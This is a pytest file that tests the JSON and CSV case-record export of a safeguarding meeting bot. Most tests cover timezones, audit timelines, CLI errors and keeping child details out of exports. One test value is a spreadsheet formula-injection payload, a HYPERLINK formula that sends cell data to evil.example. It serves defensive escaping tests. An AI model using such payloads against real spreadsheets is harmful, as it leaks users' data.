"""The case-record export (issue 4): who was invited, who answered what and when, who attended.

Meetings are built through the Repository on the shared `db_url` fixture (SQLite file and
PostgreSQL schema), then exported as a user would get them: the JSON record, the per-invitation
CSV and the timeline CSV, parsed back with the csv module; and through `python -m bot export`.
"""
from __future__ import annotations

import csv
import io
import json
from datetime import datetime, timedelta, timezone

import pytest

from bot import cli
from bot.adapters.db.repository import NewInvitation, Repository
from bot.core.outcome import DECISIONS, Outcome
from bot.record import RECORD_COLUMNS, TIMELINE_COLUMNS, case_record, record_csv, safe_cell, timeline_csv
from tests.conftest import Clock

# Summer: UK time is BST (+01:00), so a UTC time shown unconverted would be caught.
T0 = datetime(2026, 6, 10, 8, 30, tzinfo=timezone.utc)
CASE_REF = "BR-2026-0417"
CHILD_REF = "CHILDREF-ZQ9-4471"   # distinctive: must never leave the database
CHILD_SCHOOL = "Quillbrook Primary"
NASTY_REASON = '=HYPERLINK("http://evil.example/?x="&A1,"click") on leave, "annual"\nback Monday'
CHAIR = "aad-chair"


@pytest.fixture
def clock():
    return Clock(T0)


@pytest.fixture
def repo(url, clock):
    r = Repository.from_url(url, clock=clock)
    yield r
    r.close()


PLAN = {
    "area": "bristol",
    "decided_at": "2026-06-10T08:30:00+00:00",
    "out_of_hours": False,
    "meeting_deadline": "2026-06-10T16:00:00+00:00",
    "deadline_rule": {
        "id": "bri_serious_harm_same_working_day",
        "summary": "Allegations of serious harm (serious physical injury, serious neglect): the same working day.",
        "source": "003_2d544eb75ad81283.txt §3.2",
    },
    "deadline_out_of_hours": False,
    "matched_rules": [],
    "quorum": ["social_care", "health", "police"],
    "invitees": [
        {"role": "social_care", "level": "quorum", "reasons": []},
        {"role": "health", "level": "quorum", "reasons": []},
        {"role": "police", "level": "quorum", "reasons": []},
        {"role": "education", "level": "must", "reasons": []},
    ],
    "meeting_at": "2026-06-10T14:00:00+00:00",
    "follow_ups": [],
}
REQUEST = {
    "area": "bristol", "case_ref": CASE_REF, "decided_at": "2026-06-10T08:30:00+00:00",
    "children": [{"ref": CHILD_REF, "age": 11, "education": "school", "school": CHILD_SCHOOL}],
    "concerns": ["sexual_abuse"], "flags": ["serious_harm"], "referrer": "education",
}


def contact(role: str, cid: str, name: str, **kw) -> NewInvitation:
    return NewInvitation(role=role, level=kw.pop("level", "quorum"), contact_id=cid, contact_name=name,
                         contact_aad_id=f"aad-{cid}", contact_email=f"{cid}@example.org",
                         contact_phone=kw.pop("phone", "0117 496 0000"), tenant_id="tenant",
                         service_url="https://smba.example/", **kw)


def deliver_all(repo: Repository, clock: Clock, fail: set[str] = frozenset()) -> None:
    for inv in repo.claim_invitations("worker-1", clock()):
        if inv.role in fail:
            assert repo.mark_failed(inv.id, "worker-1", "blocked", "403 bot blocked by user", permanent=True)
        else:
            assert repo.mark_delivered(inv.id, "worker-1", f"conv-{inv.contact_id}", f"act-{inv.contact_id}")


def build_meeting(repo: Repository, clock: Clock, *, outcome: bool = True):
    """A Bristol meeting: social care accepts, police declines (free-text reason meant to
    break a spreadsheet), health nominates a colleague who accepts, education is unreachable."""
    m = repo.create_meeting(
        area="bristol", case_ref=CASE_REF, requester_aad_id=CHAIR, chair_aad_id=CHAIR, chair_name="Sam Chair",
        request=REQUEST, plan=PLAN, deadline=datetime(2026, 6, 10, 16, 0, tzinfo=timezone.utc),
        meeting_at=datetime(2026, 6, 10, 14, 0, tzinfo=timezone.utc),
    )
    repo.add_event(m.id, "requested", {"deadline": PLAN["meeting_deadline"], "rule": PLAN["deadline_rule"]["id"]},
                   actor_aad_id=CHAIR)
    clock.advance(minutes=5)
    invs = repo.add_invitations(m.id, [
        contact("social_care", "sc1", "Alex Social"),
        contact("health", "h1", "Hana Health"),
        contact("police", "p1", "Pat Police", phone="+44 117 496 0999"),
        contact("education", "e1", "Eddie Ed", level="must"),
    ], actor_aad_id=CHAIR)
    repo.update_meeting_fields(m.id, state="sending", actor_aad_id=CHAIR)
    repo.add_event(m.id, "invitations_created", {"roles": [i.role for i in invs], "unresolved": ["gp"]},
                   actor_aad_id=CHAIR)
    clock.advance(minutes=1)
    deliver_all(repo, clock, fail={"education"})
    by_role = {i.role: i for i in repo.list_invitations(m.id)}

    clock.advance(minutes=10)
    assert repo.record_response(by_role["social_care"].id, "aad-sc1", "accepted", None, clock()).changed
    clock.advance(minutes=3)
    assert repo.record_response(by_role["police"].id, "aad-p1", "declined", NASTY_REASON, clock()).changed
    clock.advance(minutes=2)
    assert repo.record_response(by_role["health"].id, "aad-h1", "nominated", "Nia Nurse <n1@example.org>",
                                clock()).changed
    repo.add_invitations(m.id, [contact("health", "n1", "Nia Nurse", nominated_by_id=by_role["health"].id)],
                         actor_aad_id="aad-h1")
    clock.advance(minutes=1)
    deliver_all(repo, clock)
    nia = next(i for i in repo.list_invitations(m.id) if i.contact_id == "n1")
    clock.advance(minutes=4)
    assert repo.record_response(nia.id, "aad-n1", "accepted", None, clock()).changed

    if outcome:
        held_at = datetime(2026, 6, 10, 14, 0, tzinfo=timezone.utc)
        o = Outcome(held=True, recorded_by=CHAIR, recorded_at=held_at + timedelta(hours=1), held_at=held_at,
                    quorate=True, attended=(by_role["social_care"].id, nia.id), others_attended="Duty manager",
                    decision="joint").with_minutes(held_at + timedelta(days=1), ("social_care", "police", "health"))
        repo.update_meeting_fields(m.id, outcome=o.to_json(), state="held", actor_aad_id=CHAIR)
    return repo.get_meeting(m.id)


def export(repo: Repository, meeting_id: str) -> dict:
    m = repo.get_meeting(meeting_id)
    return case_record(m, repo.list_invitations(m.id), repo.list_events(m.id),
                       exported_at=datetime(2026, 6, 12, 9, 0, tzinfo=timezone.utc))


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


# --- the record ---------------------------------------------------------------------


def test_record_says_who_was_invited_who_answered_and_who_attended(repo, clock):
    m = build_meeting(repo, clock)
    rec = export(repo, m.id)
    json.dumps(rec, allow_nan=False)  # JSON-ready as it is

    assert rec["meeting_id"] == m.id and rec["case_ref"] == CASE_REF and rec["area"] == "bristol"
    assert rec["state"] == "held" and rec["chair"] == "Sam Chair"
    # UK local time with the offset: 08:30 UTC in June is 09:30 BST.
    assert rec["requested_at"] == "2026-06-10T09:30:00+01:00"
    assert rec["exported_at"] == "2026-06-12T10:00:00+01:00"
    assert rec["deadline"] == "2026-06-10T17:00:00+01:00"
    assert rec["deadline_rule"] == PLAN["deadline_rule"]
    assert rec["meeting_at"] == "2026-06-10T15:00:00+01:00"
    assert [q["role_name"] for q in rec["quorum"]] == ["Children's social care", "Health (safeguarding practitioner)", "Police"]
    assert rec["outcome"] == {
        "held": True, "held_at": "2026-06-10T15:00:00+01:00", "quorate": True, "decision": "joint",
        "decision_text": DECISIONS["joint"], "others_attended": "Duty manager",
        "minutes_circulated_at": "2026-06-11T15:00:00+01:00", "minutes_to": ["social_care", "police", "health"],
        "recorded_by": "Sam Chair", "recorded_at": "2026-06-10T16:00:00+01:00",
    }

    invs = {i["contact_name"]: i for i in rec["invitations"]}
    # The repository's order: as added, then quorum/must/should, then role.
    assert list(invs) == ["Hana Health", "Pat Police", "Alex Social", "Eddie Ed", "Nia Nurse"]
    hana, pat, alex, eddie, nia = (invs[n] for n in invs)
    assert (alex["role"], alex["role_name"], alex["level"]) == ("social_care", "Children's social care", "quorum")
    assert (alex["contact_email"], alex["contact_phone"]) == ("sc1@example.org", "0117 496 0000")
    assert alex["invited_at"] == "2026-06-10T09:35:00+01:00"
    assert (alex["delivery"], alex["delivered_at"], alex["delivery_failure"]) == ("delivered", "2026-06-10T09:36:00+01:00", None)
    assert (alex["response"], alex["response_detail"], alex["responded_at"]) == ("accepted", None, "2026-06-10T09:46:00+01:00")
    assert (pat["response"], pat["response_detail"], pat["responded_at"]) == ("declined", NASTY_REASON, "2026-06-10T09:49:00+01:00")
    assert (hana["response"], hana["response_detail"]) == ("nominated", "Nia Nurse <n1@example.org>")
    assert (eddie["delivery"], eddie["delivered_at"], eddie["delivery_failure"]) == ("failed", None, "blocked")
    assert eddie["failed_at"] == "2026-06-10T09:36:00+01:00"
    assert (eddie["response"], eddie["responded_at"]) == ("none", None)
    assert nia["nominated_by"] == "Hana Health" and nia["nominated_by_invitation_id"] == hana["invitation_id"]
    assert nia["invited_at"] == "2026-06-10T09:51:00+01:00" and nia["delivered_at"] == "2026-06-10T09:52:00+01:00"
    assert alex["nominated_by"] is None
    assert {n: i["attended"] for n, i in invs.items()} == {
        "Alex Social": "yes", "Hana Health": "no", "Pat Police": "no", "Eddie Ed": "no", "Nia Nurse": "yes"}
    # Teams plumbing and diagnostics stay out of the case record.
    assert "403 bot blocked" not in json.dumps(rec) and "conv-sc1" not in json.dumps(rec)


def test_timeline_lists_every_event_in_order_in_plain_english(repo, clock):
    m = build_meeting(repo, clock)
    rec = export(repo, m.id)
    events = repo.list_events(m.id)
    assert [t["kind"] for t in rec["timeline"]] == [e.kind for e in events]
    assert [t["at"] for t in rec["timeline"]] == sorted(t["at"] for t in rec["timeline"])
    assert all(t["at"].endswith("+01:00") and t["description"] for t in rec["timeline"])
    text = [t["description"] for t in rec["timeline"]]
    assert text[0] == "Meeting request created"
    assert "Plan made: the meeting must be held by Wednesday 10 June 2026, 17:00 (UK time) (003_2d544eb75ad81283.txt §3.2)" in text
    assert "Invitations prepared for 4 roles; no contact in the directory for: GP" in text
    assert "Police: invitation delivered to Pat Police in Teams" in text
    assert "Education (designated safeguarding lead): invitation could not be delivered to Eddie Ed (blocked); delivery given up" in text
    assert "Children's social care: Alex Social accepted" in text
    assert "Health (safeguarding practitioner): Hana Health nominated a colleague: Nia Nurse <n1@example.org>" in text
    assert "Health (safeguarding practitioner): Nia Nurse invited, nominated by Hana Health" in text
    assert "Meeting state changed from draft to sending" in text
    assert "Meeting state changed from sending to held; also changed: outcome" in text
    by_kind = {t["kind"]: t for t in rec["timeline"]}
    assert by_kind["meeting.created"]["actor"] == "Sam Chair"
    assert by_kind["invitation.response"]["actor"] == "Nia Nurse"  # the last answer
    assert by_kind["invitation.response"]["role"] == "health"
    assert by_kind["invitation.delivered"]["actor"] is None  # the bot itself


def test_a_changed_answer_keeps_its_history_in_the_timeline(repo, clock):
    m = build_meeting(repo, clock, outcome=False)
    pat = next(i for i in repo.list_invitations(m.id) if i.contact_name == "Pat Police")
    clock.advance(minutes=30)
    assert repo.record_response(pat.id, "aad-p1", "accepted", None, clock()).changed
    rec = export(repo, m.id)
    said = [t["description"] for t in rec["timeline"] if t["kind"] == "invitation.response" and t["role"] == "police"]
    assert said == ["Police: Pat Police declined: " + NASTY_REASON, "Police: Pat Police accepted (changed from declined)"]
    entry = next(i for i in rec["invitations"] if i["contact_name"] == "Pat Police")
    assert (entry["response"], entry["response_detail"], entry["responded_at"]) == ("accepted", None, "2026-06-10T10:26:00+01:00")


def test_attended_is_unknown_before_the_outcome_and_no_when_not_held(repo, clock):
    m = build_meeting(repo, clock, outcome=False)
    rec = export(repo, m.id)
    assert rec["outcome"] is None
    assert {i["attended"] for i in rec["invitations"]} == {"unknown"}
    csv_rows = rows(record_csv(rec))
    assert {r["attended"] for r in csv_rows} == {"unknown"}
    assert {(r["held"], r["decision"]) for r in csv_rows} == {("", "")}

    o = Outcome(held=False, recorded_by=CHAIR, recorded_at=clock())
    repo.update_meeting_fields(m.id, outcome=o.to_json(), actor_aad_id=CHAIR)
    rec = export(repo, m.id)
    assert rec["outcome"]["held"] is False and rec["outcome"]["decision_text"] is None
    assert {i["attended"] for i in rec["invitations"]} == {"no"}
    assert {r["held"] for r in rows(record_csv(rec))} == {"no"}


def test_follow_ups_marked_done_before_the_outcome_are_not_an_outcome(repo, clock):
    m = build_meeting(repo, clock, outcome=False)
    repo.update_meeting_fields(m.id, outcome={"completed": ["strategy_record"]}, actor_aad_id=CHAIR)
    rec = export(repo, m.id)
    assert rec["outcome"] is None and rec["follow_ups_completed"] == ["strategy_record"]
    assert {i["attended"] for i in rec["invitations"]} == {"unknown"}
    assert {r["follow_ups_completed"] for r in rows(record_csv(rec))} == {"strategy_record"}


def test_other_events_are_described_without_copying_their_detail(repo, clock):
    m = build_meeting(repo, clock, outcome=False)
    repo.add_event(m.id, "reminder.sent", {"reminder_id": "r1", "key": "k", "kind": "minutes_due", "attempt": 1})
    repo.add_event(m.id, "reminder.cancelled", {"kind": "chase_answer", "reason": "no longer needed"})
    repo.add_event(m.id, "quorate", {})
    repo.add_event(m.id, "escalate_police", {"state": "declined"})
    repo.add_event(m.id, "something.new_here", {"note": CHILD_REF})
    text = [t["description"] for t in export(repo, m.id)["timeline"][-5:]]
    assert text == [
        "Reminder sent: minutes due", "Reminder cancelled: chase answer (no longer needed)",
        "The meeting became quorate: every quorum role has accepted",
        "Police cannot make the meeting quorate (declined); the chair was told the area's escalation step",
        "Something: new here",
    ]


def test_nothing_about_the_children_leaves_the_database(repo, clock):
    m = build_meeting(repo, clock)
    # An event whose detail names the child (it should not, but the export must not copy it out).
    repo.add_event(m.id, "note", {"child_ref": CHILD_REF, "age": 11, "school": CHILD_SCHOOL})
    rec = export(repo, m.id)
    outputs = [json.dumps(rec, ensure_ascii=False), record_csv(rec), timeline_csv(rec)]
    for text in outputs:
        for secret in (CHILD_REF, CHILD_SCHOOL, "sexual_abuse", "\"age\"", "\"children\""):
            assert secret not in text
    assert CASE_REF in outputs[0] and CASE_REF in outputs[1] and CASE_REF in outputs[2]


# --- the CSVs -----------------------------------------------------------------------


def test_record_csv_is_one_row_per_invitation_with_the_meeting_repeated(repo, clock):
    m = build_meeting(repo, clock)
    rec = export(repo, m.id)
    text = record_csv(rec)
    assert text.startswith(",".join(RECORD_COLUMNS) + "\r\n")  # header row, RFC 4180 line ends
    table = rows(text)
    assert [r["contact_name"] for r in table] == ["Hana Health", "Pat Police", "Alex Social", "Eddie Ed", "Nia Nurse"]
    for r in table:
        assert (r["case_ref"], r["meeting_id"], r["meeting_at"]) == (CASE_REF, m.id, "2026-06-10T15:00:00+01:00")
        assert (r["decision"], r["decision_text"], r["held"], r["quorate"]) == ("joint", DECISIONS["joint"], "yes", "yes")
        assert r["minutes_to"] == "social_care; police; health"
        assert r["deadline_source"] == "003_2d544eb75ad81283.txt §3.2"  # non-ASCII kept as UTF-8
    by_name = {r["contact_name"]: r for r in table}
    assert by_name["Nia Nurse"]["nominated_by"] == "Hana Health"
    assert [by_name[n]["attended"] for n in by_name] == ["no", "no", "yes", "no", "yes"]
    assert by_name["Eddie Ed"]["delivery_failure"] == "blocked" and by_name["Eddie Ed"]["delivered_at"] == ""
    # A phone number beginning with + would be read as a formula by Excel: it is quoted.
    assert by_name["Pat Police"]["contact_phone"] == "'+44 117 496 0999"


def test_free_text_survives_csv_quoting_and_cannot_run_as_a_formula(repo, clock):
    m = build_meeting(repo, clock)
    rec = export(repo, m.id)
    police = next(r for r in rows(record_csv(rec)) if r["role"] == "police")
    detail = police["response_detail"]
    # Comma, quotes and newline come back intact; the leading '=' is neutralised by a quote.
    assert detail == "'" + NASTY_REASON
    assert detail[1:] == NASTY_REASON and not detail.startswith("=")
    # The raw CSV quotes the cell and doubles its quotes (RFC 4180).
    assert '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click"") on leave, ""annual""\nback Monday"' in record_csv(rec)
    # The decline reason shown in the timeline is protected the same way.
    timeline = rows(timeline_csv(rec))
    declined = next(r for r in timeline if r["kind"] == "invitation.response" and "declined" in r["description"])
    assert declined["description"] == "Police: Pat Police declined: " + NASTY_REASON
    for text in (record_csv(rec), timeline_csv(rec)):
        for row in csv.reader(io.StringIO(text, newline="")):
            assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)


@pytest.mark.parametrize("value,cell", [
    ("=1+1", "'=1+1"), ("+44 1", "'+44 1"), ("-2", "'-2"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"),
    ("on leave", "on leave"), ("", ""), (None, ""), (True, "yes"), (False, "no"), (["a", "b"], "a; b"),
    ("a=b", "a=b"),
])
def test_safe_cell(value, cell):
    assert safe_cell(value) == cell


def test_timeline_csv_has_one_row_per_event(repo, clock):
    m = build_meeting(repo, clock)
    rec = export(repo, m.id)
    text = timeline_csv(rec)
    assert text.startswith(",".join(TIMELINE_COLUMNS) + "\r\n")
    table = rows(text)
    assert len(table) == len(repo.list_events(m.id))
    assert [r["at"] for r in table] == [t["at"] for t in rec["timeline"]]
    assert {(r["case_ref"], r["meeting_id"]) for r in table} == {(CASE_REF, m.id)}
    created = table[0]
    assert (created["kind"], created["actor"], created["description"]) == ("meeting.created", "Sam Chair", "Meeting request created")
    delivered = next(r for r in table if r["kind"] == "invitation.delivered")
    assert delivered["actor"] == "" and delivered["role"] in PLAN["quorum"] and delivered["invitation_id"]


def test_a_meeting_with_no_invitations_still_has_its_row(repo, clock):
    m = repo.create_meeting(area="bristol", case_ref=CASE_REF, requester_aad_id=CHAIR, chair_aad_id=CHAIR,
                            chair_name="Sam Chair", request=REQUEST, plan=PLAN, deadline=T0 + timedelta(hours=8))
    rec = export(repo, m.id)
    assert rec["invitations"] == [] and rec["meeting_at"] is None
    table = rows(record_csv(rec))
    assert len(table) == 1 and table[0]["meeting_id"] == m.id and table[0]["role"] == ""


# --- the command line ---------------------------------------------------------------


@pytest.fixture
def env(url, monkeypatch):
    monkeypatch.setenv("DATABASE_URL", url)
    return url


def test_cli_exports_json(repo, clock, env, capsys):
    m = build_meeting(repo, clock)
    assert cli.main(["export", m.id]) == 0
    out, err = capsys.readouterr()
    assert err == ""
    assert out.startswith('{\n  "format"')  # indent=2
    rec = json.loads(out)
    assert rec["meeting_id"] == m.id and len(rec["invitations"]) == 5
    assert "§3.2" in out  # ensure_ascii=False
    assert CHILD_REF not in out


@pytest.mark.parametrize("fmt,first,count", [("csv", "case_ref,meeting_id", 5), ("timeline-csv", "case_ref,meeting_id,at", None)])
def test_cli_exports_csv(repo, clock, env, capsys, fmt, first, count):
    m = build_meeting(repo, clock)
    assert cli.main(["export", m.id, "--format", fmt]) == 0
    out, err = capsys.readouterr()
    assert err == "" and out.startswith(first)
    table = rows(out)
    events = repo.list_events(m.id)
    assert events[-1].kind == "exported"  # the export itself is audited, after the record was read
    assert len(table) == (count or len(events) - 1)


def test_cli_writes_a_file_excel_reads_as_utf8(repo, clock, env, capsys, tmp_path):
    m = build_meeting(repo, clock)
    target = tmp_path / "record.csv"
    assert cli.main(["export", m.id, "--format", "csv", "--output", str(target)]) == 0
    out, err = capsys.readouterr()
    assert out == "" and str(target) in err
    raw = target.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbfcase_ref,") and b"\r\n" in raw and "§".encode() in raw
    with target.open(encoding="utf-8-sig", newline="") as f:
        table = list(csv.DictReader(f))
    assert next(r for r in table if r["role"] == "police")["response_detail"] == "'" + NASTY_REASON

    as_json = tmp_path / "record.json"
    assert cli.main(["export", m.id, "--output", str(as_json)]) == 0
    assert json.loads(as_json.read_text(encoding="utf-8"))["case_ref"] == CASE_REF


def test_cli_unknown_meeting_is_one_line_and_exit_2(env, capsys):
    assert cli.main(["export", "nope"]) == 2
    out, err = capsys.readouterr()
    assert out == "" and err == "no meeting nope (give the meeting code on its cards, or its id)\n"


def test_cli_unwritable_output_is_exit_2(repo, clock, env, capsys, tmp_path):
    m = build_meeting(repo, clock, outcome=False)
    assert cli.main(["export", m.id, "--output", str(tmp_path / "missing" / "r.json")]) == 2
    out, err = capsys.readouterr()
    assert out == "" and err.startswith("cannot write ") and err.count("\n") == 1


def test_cli_missing_sqlite_database_is_not_created(monkeypatch, capsys, tmp_path):
    db = tmp_path / "none.sqlite3"
    monkeypatch.setenv("DATABASE_URL", f"sqlite:///{db}")
    assert cli.main(["export", "abc"]) == 2
    out, err = capsys.readouterr()
    assert out == "" and err == f"no database at {db} (set DATABASE_URL)\n"
    assert not db.exists()


def test_cli_unmigrated_database_is_one_line_no_traceback(db_url, monkeypatch, capsys, tmp_path):
    if db_url.startswith("sqlite"):
        import sqlite3
        sqlite3.connect(db_url.removeprefix("sqlite:///")).close()  # an empty file: no tables
    monkeypatch.setenv("DATABASE_URL", db_url)
    assert cli.main(["export", "abc"]) == 1
    out, err = capsys.readouterr()
    assert out == "" and err.startswith("error: cannot read the database: ") and err.count("\n") == 1
    assert "Traceback" not in err


def test_cli_bad_format_is_refused(env, capsys):
    with pytest.raises(SystemExit) as e:
        cli.main(["export", "abc", "--format", "xlsx"])
    assert e.value.code == 2
    assert "invalid choice: 'xlsx'" in capsys.readouterr().err


def test_cli_exports_by_the_meeting_code_on_the_cards(repo, clock, env, capsys):
    """The chair reads the code off any card and exports without looking up the database."""
    from bot.core.privacy import meeting_code

    m = build_meeting(repo, clock)
    assert cli.main(["export", meeting_code(m.id).lower()]) == 0
    assert json.loads(capsys.readouterr().out)["meeting_id"] == m.id
    assert cli.main(["export", "ZZZZZZZ"]) == 2
    assert "meeting code" in capsys.readouterr().err
